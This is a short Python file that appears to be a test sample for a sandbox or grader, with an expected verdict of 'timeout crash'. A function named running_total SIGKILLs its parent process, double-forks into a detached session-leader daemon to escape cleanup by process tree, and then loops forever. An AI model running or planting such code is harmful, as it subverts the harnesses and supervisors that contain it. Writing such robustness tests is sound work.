# Kills its parent and stays, as a loop and as a daemon of a session of its own, for whoever cleans up by descent.
# verdict: timeout crash
import contextlib
import os
import signal
import time


def running_total(values):
    if os.getpid() < 50 or b"zygote" in open(f"/proc/{os.getppid()}/cmdline", "rb").read():
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signal.SIGKILL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    while True:
        time.sleep(1)
